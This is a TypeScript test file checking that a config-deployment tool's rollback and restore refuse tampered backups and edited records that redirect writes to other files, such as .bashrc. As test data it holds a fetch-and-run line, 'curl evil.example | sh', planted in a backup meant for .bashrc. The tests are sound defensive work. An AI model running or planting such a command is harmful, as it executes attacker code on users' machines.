/**
 * Rollbacks and restores write only where the adapter or the user says (issue #13, finding 2):
 * an edited backup or deployment record in the store cannot point a write at another file.
 */
import { existsSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { errorCode } from '../../test/helpers/error-code.js';
import { initializedService } from '../../test/helpers/service.js';
import type { TempHome } from '../../test/helpers/temp-home.js';
import { sha256Hex } from '../core/canonical.js';
import type { Orchestrator } from './index.js';

let temp: TempHome;
let svc: Orchestrator;
let claudeFile: string;
let bashrc: string;
const ORIGINAL = '{ "theme": "dark", "mcpServers": {} }\n';
const BASHRC = 'export PATH=$HOME/bin:$PATH\n';

beforeEach(async () => {
  ({ temp, svc } = await initializedService());
  claudeFile = join(temp.userHome, '.config', 'Claude', 'claude_desktop_config.json');
  bashrc = join(temp.userHome, '.bashrc');
  mkdirSync(dirname(claudeFile), { recursive: true });
  writeFileSync(claudeFile, ORIGINAL);
  writeFileSync(bashrc, BASHRC);
  await svc.publish({ payload: { mcpServers: { memory: { command: 'npx' } } }, changelog: 'one' });
  await svc.deploy({});
});
afterEach(() => temp.cleanup());

const backupDir = () => join(temp.home, 'backups', 'claude-desktop');
const stateFile = () => join(temp.home, 'deployments', 'claude-desktop', 'default.json');
function backupFiles(): { meta: string; bak: string } {
  const meta = readdirSync(backupDir()).find((f) => f.endsWith('.json')) as string;
  return { meta: join(backupDir(), meta), bak: join(backupDir(), meta.replace(/\.json$/, '.bak')) };
}
function editJson(path: string, change: (v: Record<string, unknown>) => void): void {
  const v = JSON.parse(readFileSync(path, 'utf8'));
  change(v);
  writeFileSync(path, JSON.stringify(v));
}

describe('rollback --restore-backup', () => {
  it('refuses bytes that do not match the recorded sha256 (BACKUP_TAMPERED), writing nothing', async () => {
    const { bak } = backupFiles();
    writeFileSync(bak, '{ "mcpServers": { "evil": { "command": "curl" } } }');
    const before = readFileSync(claudeFile, 'utf8');
    expect(await errorCode(() => svc.rollback({ restore_backup: true }))).toBe('BACKUP_TAMPERED');
    expect(readFileSync(claudeFile, 'utf8')).toBe(before);
  });

  it('refuses a backup whose record points at another file, even with a matching hash (PATH_NOT_ALLOWED)', async () => {
    const { meta, bak } = backupFiles();
    const evil = Buffer.from('curl evil.example | sh\n');
    writeFileSync(bak, evil);
    editJson(meta, (m) => {
      m.config_path = bashrc;
      m.sha256 = sha256Hex(evil);
      m.size = evil.length;
    });
    await expect(svc.rollback({ restore_backup: true })).rejects.toThrow(/Nothing was written/);
    expect(await errorCode(() => svc.rollback({ restore_backup: true }))).toBe('PATH_NOT_ALLOWED');
    expect(readFileSync(bashrc, 'utf8')).toBe(BASHRC);
  });

  it('restoring the backup of a file that did not exist removes the file again', async () => {
    const fresh = join(temp.root, 'new-place', 'claude.json');
    await svc.publish({ payload: { mcpServers: { memory: { command: 'node' } } }, changelog: 'two' });
    const deployed = await svc.deploy({ path: fresh });
    expect(existsSync(fresh)).toBe(true);
    const restored = await svc.rollback({ restore_backup: true, path: fresh });
    expect(existsSync(fresh)).toBe(false);
    expect(restored.status).toBe('deployed');
    // The bytes it replaced are kept, as for any restore.
    expect(restored.backup_id).not.toBeNull();
    expect(restored.backup_id).not.toBe(deployed.backup_id);
    expect((await svc.status({})).entries[0]).toMatchObject({ config_path: fresh, missing_file: true });
  });

  it('restores an intact backup to the client file, and to an explicit --path', async () => {
    const restored = await svc.rollback({ restore_backup: true });
    expect(restored.config_path).toBe(claudeFile);
    expect(readFileSync(claudeFile, 'utf8')).toBe(ORIGINAL);
  });
});

describe('rollback', () => {
  it("refuses a deployment record whose config_path was edited to another program's file", async () => {
    await svc.publish({ payload: { mcpServers: { memory: { command: 'node' } } }, changelog: 'two' });
    await svc.deploy({});
    const other = join(temp.userHome, '.config', 'other-app', 'settings.json');
    mkdirSync(dirname(other), { recursive: true });
    writeFileSync(other, '{ "editor": "vim" }\n');
    editJson(stateFile(), (r) => {
      r.config_path = other;
    });
    expect(await errorCode(() => svc.rollback({}))).toBe('PATH_NOT_ALLOWED');
    expect(readFileSync(other, 'utf8')).toBe('{ "editor": "vim" }\n');
    // The user naming the file is enough.
    const r = await svc.rollback({ path: claudeFile });
    expect(r).toMatchObject({ action: 'rollback', config_path: claudeFile });
  });

  it('refuses a record edited to another file that holds the managed server names: the store never names a path', async () => {
    await svc.publish({ payload: { mcpServers: { memory: { command: 'node' } } }, changelog: 'two' });
    await svc.deploy({});
    const decoy = join(temp.userHome, '.config', 'other-app', 'mcp.json');
    mkdirSync(dirname(decoy), { recursive: true });
    const DECOY = '{ "mcpServers": { "memory": { "command": "x" } }, "keep": true }\n';
    writeFileSync(decoy, DECOY);
    editJson(stateFile(), (r) => {
      r.config_path = decoy;
    });
    expect(await errorCode(() => svc.rollback({}))).toBe('PATH_NOT_ALLOWED');
    expect(readFileSync(decoy, 'utf8')).toBe(DECOY);
  });

  it('rolls back a deploy made with --path only when --path names the file again', async () => {
    const custom = join(temp.root, 'custom', 'claude.json');
    mkdirSync(dirname(custom), { recursive: true });
    await svc.publish({ payload: { mcpServers: { memory: { command: 'node' } } }, changelog: 'two' });
    await svc.deploy({ path: custom });
    await svc.publish({ payload: { mcpServers: { memory: { command: 'deno' } } }, changelog: 'three' });
    await svc.deploy({ path: custom });
    expect(await errorCode(() => svc.rollback({}))).toBe('PATH_NOT_ALLOWED');
    expect(JSON.parse(readFileSync(custom, 'utf8')).mcpServers.memory.command).toBe('deno');
    const r = await svc.rollback({ path: custom });
    expect(r.config_path).toBe(custom);
    expect(JSON.parse(readFileSync(custom, 'utf8')).mcpServers.memory.command).toBe('node');
  });
});
